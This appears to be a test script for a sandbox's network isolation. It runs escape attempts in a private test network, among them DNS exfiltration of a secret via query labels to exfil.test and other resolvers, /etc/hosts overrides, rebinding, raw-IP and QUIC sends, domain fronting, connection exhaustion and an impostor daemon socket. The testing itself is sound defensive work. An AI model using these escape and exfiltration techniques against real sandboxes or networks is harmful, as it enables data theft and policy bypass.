"""The ways out a sandbox tries, each one a test (NETWORK.md's list), with
real packets in a private world (world.py): other sandboxes, DNS as an
exfiltration channel, /etc/hosts, rebinding, raw addresses of allowed
names, QUIC, server-first protocols, WebSocket and HTTP/2 through the
proxy, domain fronting (a documented limit), connection exhaustion, and
netd killed (nothing opens) and back (reconciled).

usage: escapes.py BUILD_DIR"""
import os
import signal
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import world  # noqa: E402
from world import check  # noqa: E402

world.enter()
BUILD = sys.argv[1]
w = world.World(BUILD, "escapes")
CA = "printf '%s' '" + open(os.path.join(w.dir, "ca.pem")).read() + "' > /tmp/ca.pem; "
NAMES = ["--allow-out", "allowed.test", "--allow-out", "banner.test", "--deny-out", "0.0.0.0/0"]


def py(code):
    """A Python program for the sandbox's shell, quoting-proof."""
    import base64
    return "python3 -c \"import base64; exec(base64.b64decode('" + base64.b64encode(code.encode()).decode() + "'))\""



def run(net, cmd, timeout=90):
    r = w.abox("run", *net, "--user", "root", "--", "sh", "-c", cmd, timeout=timeout)
    return r.returncode, r.stdout + r.stderr


def create(*net):
    r = w.abox("create", "--timeout", "300", *net)
    if r.returncode:
        raise RuntimeError("create: " + r.stderr)
    return r.stdout.strip()


def exe(sid, cmd, timeout=90):
    r = w.abox("exec", sid, "--user", "root", "--", "sh", "-c", cmd, timeout=timeout)
    return r.stdout + r.stderr


try:
    # ---- another sandbox is never reachable
    a, b = create("--net", "open"), create("--net", "open")
    b_addr = exe(b, "ip -4 -o addr show eth0").split()[3].split("/")[0]
    listener = subprocess.Popen([os.path.join(BUILD, "abox"), "exec", b, "--", "python3", "-c",
                                 "import socket\ns=socket.socket()\ns.bind(('0.0.0.0',9000))\ns.listen()\n"
                                 "s.settimeout(8)\ntry:\n  c,_=s.accept(); print('accepted')\nexcept OSError: print('none')"],
                                env=w.env, stdout=subprocess.PIPE, text=True)
    time.sleep(0.5)
    out = exe(a, f"curl -sS -m 3 http://{b_addr}:9000/; echo rc=$?")
    got, _ = listener.communicate(timeout=30)
    check("another sandbox's address: refused, and it never saw a connection",
          "rc=7" in out and "none" in got, out + got)
    w.abox("kill", a, b)

    # ---- fail closed: a sandbox's veth that is no member of the table's
    # sandboxes (its elements gone under it, whatever took them) reaches
    # nothing; it had passed every chain unjudged, open to the internet
    f = create("--net", "open")
    before = exe(f, "curl -sS -m 20 http://203.0.113.10/")
    world.sh("nft", "delete", "element", "inet", "abox", "ifaces", '{ "abx' + f[:12] + '" }')
    out = exe(f, "curl -sS -m 3 http://203.0.113.10/; echo rc=$?")
    check("a sandbox whose elements are gone reaches nothing (the table fails closed)",
          "hello" in before and "hello" not in out and "rc=0" not in out, before + out)
    w.abox("kill", f)

    # ---- gc and a create in flight: a create takes its slot before its
    # runtime folder or record exist; a gc that freed such a slot then
    # had the create fail ("slot N is not sandbox X's") or took its
    # elements from under the running sandbox
    live = create("--net", "open")
    slots = os.path.join(w.state, "net", "slots")
    text = next(t for t in (open(os.path.join(slots, n)).read() for n in os.listdir(slots)) if live in t)
    ghost = os.path.join(slots, "16000")
    with open(ghost, "w") as fh:
        fh.write(text.replace(live, "ghost" + "0" * 15))
    w.abox("gc")
    check("gc leaves a fresh slot of nobody's alone (a create in flight)", os.path.exists(ghost))
    os.utime(ghost, (time.time() - 120, time.time() - 120))
    w.abox("gc")
    check("... and frees it once it is a while old (its creator died)", not os.path.exists(ghost))
    w.abox("kill", live)

    # ---- DNS exfiltration: nothing reaches a resolver outside
    secret = "s3cr3t" + os.urandom(4).hex()
    exfil = (f"getent hosts {secret}-{'a' * 50}.allowed.test; "
             f"getent hosts {secret}.exfil.test; "
             + py(f"""
import socket, struct
label = b'{secret}-txt'
q = struct.pack('!HHHHHH', 7, 256, 1, 0, 0, 0) + bytes([len(label)]) + label + b'\\x04test\\x00' + struct.pack('!HH', 16, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
for ip in ('203.0.113.53', '1.1.1.1', '203.0.113.10'):
    try:
        s.sendto(q, (ip, 53))
        print(ip, s.recvfrom(512)[0][3] & 15)
    except OSError as e:
        print(ip, e)
t = socket.create_connection(('203.0.113.53', 53), 3)
t.sendall(struct.pack('!H', len(q)) + q)
print('tcp', t.recv(512)[5] & 15)
"""))
    before = w.queries()
    rc, out = run(["--net", "filtered"], exfil)
    check("deny-all: every DNS question refused (REFUSED, rcode 5), UDP to any address and TCP",
          "203.0.113.53 5" in out and "1.1.1.1 5" in out and "tcp 5" in out, out)
    rc, out2 = run(NAMES, exfil.replace(f"{secret}-{'a' * 50}.allowed.test", f"{secret}.deny.test"))
    check("filtered by name: names off the list answered NXDOMAIN (3) here, TXT and TCP too",
          "203.0.113.53 3" in out2 and "tcp 3" in out2, out2)
    check("no question with the secret ever reached the internet's DNS", secret not in w.queries()[len(before):],
          w.queries()[len(before):])

    # ---- names: /etc/hosts, rebinding, raw addresses, QUIC, server-first
    rc, out = run(NAMES, CA + "echo '203.0.113.11 allowed.test' >> /etc/hosts; "
                  "curl -sS -m 5 --cacert /tmp/ca.pem https://allowed.test/")
    check("/etc/hosts pointing an allowed name elsewhere gains nothing: the proxy dials the name itself",
          "hello from 203.0.113.10" in out, out)
    rc, out = run(["--allow-out", "rebind.test", "--deny-out", "0.0.0.0/0"],
                  "getent hosts rebind.test; echo getent=$?; curl -sS -m 5 http://rebind.test/; echo rc=$?")
    check("rebinding: an allowed name answering a private address gets no address", "getent=2" in out, out)
    rc, out = run(NAMES, "curl -sS -m 3 http://203.0.113.10:8080/; echo first=$?; getent hosts allowed.test; "
                  "curl -sS -m 3 http://203.0.113.10:8080/; echo second=$?")
    check("an allowed name's address on another port: refused before the sandbox resolved the name",
          "first=7" in out, out)
    check("... and reached once its resolver taught it (non-HTTP protocols to allowed names work)",
          "second=0" in out and "hello from 203.0.113.10" in out, out)
    rc, out = run(NAMES, "getent hosts allowed.test; " + py("""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
for ip, port in (('203.0.113.11', 443), ('203.0.113.11', 7), ('203.0.113.10', 7)):
    try:
        s.sendto(b'quic', (ip, port))
        s.recvfrom(100)
        print(ip, port, 'echo')
    except OSError:
        print(ip, port, 'silent')
"""))
    check("UDP (QUIC 443, or any port) to an address of no allowed name is dropped",
          "203.0.113.11 443 silent" in out and "203.0.113.11 7 silent" in out, out)
    check("UDP to an allowed name's learned address goes through", "203.0.113.10 7 echo" in out, out)
    # a policy change forgets what the old one let the sandbox learn
    udp7 = py("""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
try:
    s.sendto(b'x', ('203.0.113.10', 7))
    s.recvfrom(100)
    print('udp echo')
except OSError:
    print('udp silent')
""")
    sid = create(*NAMES)
    r = w.abox("exec", sid, "--", "sh", "-c", "getent hosts allowed.test >/dev/null; " + udp7)
    check("a long-lived sandbox learns an allowed name's address (UDP goes through)", "udp echo" in r.stdout,
          r.stdout + r.stderr)
    r = w.abox("network", sid, "--allow-out", "banner.test", "--deny-out", "0.0.0.0/0")
    r2 = w.abox("exec", sid, "--", "sh", "-c", udp7)
    check("after a policy change without that name, its learned address is refused",
          r.returncode == 0 and "udp silent" in r2.stdout, r.stderr + r2.stdout + r2.stderr)
    w.abox("network", sid, *NAMES)
    r = w.abox("exec", sid, "--", "sh", "-c", udp7 + "; getent hosts allowed.test >/dev/null; " + udp7)
    check("... and with the name allowed again: refused until it is looked up again, then through",
          r.stdout.split() == ["udp", "silent", "udp", "echo"], r.stdout + r.stderr)
    w.abox("network", sid, "--allow-out", "banner.test", "--deny-out", "0.0.0.0/0")
    r = w.abox("exec", sid, "--", "sh", "-c", udp7)
    check("... and forgotten again at the next change", "udp silent" in r.stdout, r.stdout + r.stderr)
    w.abox("kill", sid)
    rc, out = run(NAMES, "getent hosts banner.test >/dev/null; " + py("""
import socket
s = socket.create_connection(('banner.test', 80), 5)
s.settimeout(8)
print(s.recv(100))
"""))
    check("a server-first protocol on port 80 of an allowed name goes through the proxy", "SSH-2.0-test" in out, out)
    rc, out = run(NAMES, py("""
import socket
s = socket.create_connection(('203.0.113.12', 80), 5)
s.settimeout(8)
try:
    print('got', s.recv(100))
except OSError as e:
    print('refused', e)
"""))
    check("... but not to an address the sandbox never resolved", "got b'SSH" not in out, out)

    # ---- protocols through the proxy
    rc, out = run(NAMES, py("""
import socket
s = socket.create_connection(('allowed.test', 80), 5)
s.settimeout(5)
s.sendall(b'GET /ws HTTP/1.1\\r\\nHost: allowed.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n')
h = s.recv(4096)
s.sendall(b'frame')
print(h.split(b' ')[1], s.recv(100))
"""))
    check("WebSocket through the proxy: 101, then both ways", "b'101' b'frame'" in out, out)
    rc, out = run(NAMES, CA + py("""
import socket, ssl
c = ssl.create_default_context(cafile='/tmp/ca.pem')
c.set_alpn_protocols(['h2'])
t = c.wrap_socket(socket.create_connection(('allowed.test', 443), 5), server_hostname='allowed.test')
print('alpn', t.selected_alpn_protocol())
"""))
    check("HTTP/2 (ALPN h2) through the proxy: the handshake is the server's own", "alpn h2" in out, out)
    rc, out = run(NAMES, CA + "curl -sS -m 5 --cacert /tmp/ca.pem -H 'Host: other.test' https://allowed.test/")
    check("domain fronting (TLS name allowed, HTTP Host another) is not seen: a documented limit",
          "host=other.test" in out and "sni=allowed.test" in out, out)

    # ---- exhaustion: one sandbox's connections cannot starve another
    hog = create(*NAMES)
    holder = subprocess.Popen([os.path.join(BUILD, "abox"), "exec", hog, "--", "python3", "-c",
                               "import socket,time\nss=[]\nfor i in range(300):\n"
                               "  try: ss.append(socket.create_connection(('203.0.113.11',80),5))\n"
                               "  except OSError: pass\nprint('held', len(ss), flush=True); time.sleep(20)"],
                              env=w.env, stdout=subprocess.PIPE, text=True)
    time.sleep(6)
    rc, out = run(NAMES, "curl -sS -m 5 http://allowed.test/")
    check("with another sandbox holding 300 proxied connections, this one is served", "hello from" in out, out)
    holder.kill()
    holder.wait()
    w.abox("kill", hog)

    # ---- netd killed: nothing opens; back: reconciled
    sid = create(*NAMES)
    st = w.netd_request({"op": "status"}) or {}
    pid = st.get("pid")
    check("netd runs and says which sandboxes it serves", pid and st.get("sandboxes") == 1, st)
    os.kill(pid, signal.SIGKILL)
    time.sleep(0.3)
    out = exe(sid, "getent hosts allowed.test; echo dns=$?; curl -sS -m 3 http://allowed.test/; echo http=$?; "
              "curl -sS -m 3 http://203.0.113.10:8080/; echo raw=$?")
    check("netd killed -9: DNS fails closed", "dns=2" in out, out)
    check("netd killed -9: names and the proxy's connections fail (closed, never open)",
          any(f"http={c}" in out for c in (6, 7, 28)) and "hello" not in out, out)
    check("netd killed -9: what the policy denies stays denied", "raw=7" in out, out)
    # while no netd runs, another user listens under its name: a creator
    # that talked to it would join whatever namespace it hands out
    fake = subprocess.Popen(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-c",
                             "import socket,sys\ns=socket.socket(socket.AF_UNIX,socket.SOCK_SEQPACKET)\n"
                             f"s.bind('\\0{w.netd_name()}')\ns.listen(8)\nprint('ready',flush=True)\n"
                             "while True:\n  c,_=s.accept()\n  c.settimeout(2)\n  try: d=c.recv(65536)\n"
                             "  except OSError: d=b''\n  print('got',d,flush=True)\n  c.close()\n"],
                            stdout=subprocess.PIPE, text=True)
    fake.stdout.readline()
    code, out = run(["--net", "open"], "echo ran")
    fake.kill()
    heard, _ = fake.communicate(timeout=10)
    check("an impostor on netd's socket name (another user) is refused, the create fails and says why",
          code != 0 and "neither root nor this user" in out and not out.startswith("ran\n"), out)
    check("... and it never hears a request", "'op'" not in heard and '"op"' not in heard, heard)
    w.abox("gc")  # any abox command's gc brings netd back
    st = w.netd_request({"op": "status"}) or {}
    check("netd back after a gc, the sandbox reconciled", st.get("pid") and st.get("pid") != pid and st.get("sandboxes") == 1, st)
    out = exe(sid, "curl -sS -m 5 http://allowed.test/")
    check("after the restart the sandbox's policy works again", "hello from 203.0.113.10" in out, out)
    w.abox("kill", sid)

    # ---- many sandboxes, made and killed: nothing left
    ids = []
    for i in range(100):
        r = w.abox("create", "--net", "filtered" if i % 2 else "open", "--timeout", "600",
                   *(["--allow-out", "allowed.test", "--deny-out", "0.0.0.0/0"] if i % 2 else []))
        if r.returncode == 0:
            ids.append(r.stdout.strip())
    check("100 networked sandboxes made", len(ids) == 100, f"{len(ids)} made")
    out = exe(ids[-1], "curl -sS -m 5 http://allowed.test/")
    check("the 100th works", "hello from" in out, out)
    for i in range(0, len(ids), 20):
        w.abox("kill", *ids[i:i + 20])
    # the kernel ends 100 namespaces (and their veths) in its own time:
    # on a loaded machine that has taken over 20 s
    left = w.wait_clean(60)
    check("all killed: no veth, element, flow or slot left", not any(left.values()), left)
except Exception:
    world.broke()
finally:
    w.stop()
world.finish()
